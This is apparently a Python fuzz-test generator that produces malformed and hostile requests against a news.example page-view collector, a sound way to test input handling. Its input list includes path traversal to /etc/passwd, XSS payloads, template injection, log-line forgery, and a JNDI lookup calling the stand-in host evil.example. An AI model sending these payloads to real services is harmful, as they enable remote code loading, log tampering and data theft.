"""Bodies and headers that nobody sends who means well, made from a seed."""

import json
from collections.abc import Callable, Iterator, Mapping
from random import Random
from typing import Any, NamedTuple

SITE = "news.example"
FORGED = "2026-02-21T17:09:00Z INFO collector: forged"
"""What a log line would look like that somebody else wrote."""

_BREAKS = ("\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\x1b[2J", "\x00")
_TEXTS = (
    "",
    " ",
    "/a",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "{{7*7}}%s%n${jndi:ldap://evil.example/a}",
    "\ud800",
    "\U0010ffff" * 50,
    "a" * 5_000,
    "/" * 300,
    "%00%0d%0a%",
    "https://news.example:99999999/a",
    "https://[::1/a",
    "javascript:alert(1)",
    "news.example\u202e",
    "e\u0301" * 400,
    *(f"a{cut}{FORGED}" for cut in _BREAKS),
)
_NUMBERS = ("NaN", "-Infinity", "1e999", "-0", "9" * 400, "1.7976931348623157e308", "0x10", "01", "1e-999")
_FIELDS = ("site", "article", "url", "event_id", "via", "token", "visitor", "occurred_at", "__proto__", "")
_TYPES = (
    b"text/plain",
    b"application/json",
    b"application/x-ndjson",
    b"",
    b"\xff",
    b"application/json; charset=utf-16",
)


class Attack(NamedTuple):
    """One request."""

    method: str
    path: str
    query: bytes
    headers: list[tuple[bytes, bytes]]
    body: bytes


def attacks(seed: int, number: int, key: str) -> Iterator[Attack]:
    """Yield requests, the same for the same seed; `key` opens the batch endpoint."""
    chance = Random(seed)
    for _ in range(number):
        path = chance.choice(("/v1/views", "/v1/views", "/v1/views/batch", "/v1/view.gif"))
        headers = [
            (b"content-type", chance.choice(_TYPES[:3] if chance.random() < 0.8 else _TYPES)),
            (b"user-agent", _header(chance)),
            (b"authorization", b"Bearer " + (key.encode() if chance.random() < 0.9 else _header(chance))),
        ]
        for name in (b"origin", b"referer", b"x-forwarded-for", b"sec-purpose", b"content-length"):
            if chance.random() < 0.1:
                headers.append((name, _header(chance)))
        query = _query(chance) if path == "/v1/view.gif" else b""
        method = "GET" if path == "/v1/view.gif" else "POST"
        yield Attack(method, path, query, headers, _body(chance))


def _header(chance: Random) -> bytes:
    """Return the value of a header: few different ones, so that what is remembered of them stays small."""
    text = chance.choice(_TEXTS).replace("\n", "").replace("\r", "").replace("\x00", "")
    return text.encode("utf-8", "surrogatepass")[:600]


def _query(chance: Random) -> bytes:
    parts = [
        chance.choice(_FIELDS) + "=" + chance.choice((*_TEXTS, SITE, "%ff%fe", "+", "&&", "%zz"))
        for _ in range(chance.randrange(6))
    ]
    return "&".join(["site=news.example", *parts]).encode("ascii", "replace")[:4_000]


def _body(chance: Random) -> bytes:
    make: Callable[[Random], bytes] = chance.choice(
        (_reading, _reading, _array, _lines, _nested, _noise, _numbered)
    )
    body = make(chance)
    for _ in range(chance.choice((0, 0, 1, 3))):
        body = _spoilt(chance, body)
    return body


def _fields(chance: Random) -> Mapping[str, Any]:
    given: dict[str, Any] = {"site": SITE, "article": "/a"}
    for _ in range(chance.randrange(4)):
        given[chance.choice(_FIELDS)] = _value(chance)
    return given


def _value(chance: Random) -> Any:
    return chance.choice(
        (
            chance.choice(_TEXTS),
            None,
            True,
            chance.randrange(-(2**70), 2**70),
            0.5,
            [],
            {},
            [SITE],
            {"a": "b"},
            SITE,
        )
    )


def _reading(chance: Random) -> bytes:
    return json.dumps(_fields(chance)).encode()


def _array(chance: Random) -> bytes:
    return json.dumps(
        [_fields(chance) if chance.random() < 0.9 else _value(chance) for _ in range(chance.randrange(5))]
    ).encode()


def _lines(chance: Random) -> bytes:
    return b"\n".join(_reading(chance) for _ in range(chance.randrange(4)))


def _nested(chance: Random) -> bytes:
    depth = chance.choice((10, 1_000, 4_000))
    return b'{"site": ' * depth + b"1" if chance.random() < 0.5 else b"[" * depth + b"]" * depth


def _noise(chance: Random) -> bytes:
    return chance.randbytes(chance.randrange(200))


def _numbered(chance: Random) -> bytes:
    return f'{{"site": "{SITE}", "article": {chance.choice(_NUMBERS)}, "site": "{SITE}"}}'.encode()


def _spoilt(chance: Random, body: bytes) -> bytes:
    """Return a body with something flipped, cut out or doubled."""
    at = chance.randrange(len(body) + 1)
    how = chance.randrange(4)
    if how == 0:
        return body[:at]
    if how == 1:
        return body[:at] + chance.randbytes(1) + body[at + 1 :]
    if how == 2:
        return body[:at] + body[at : at + 20] * 2 + body[at + 20 :]
    return body + b"\xef\xbb\xbf" + body[:at]
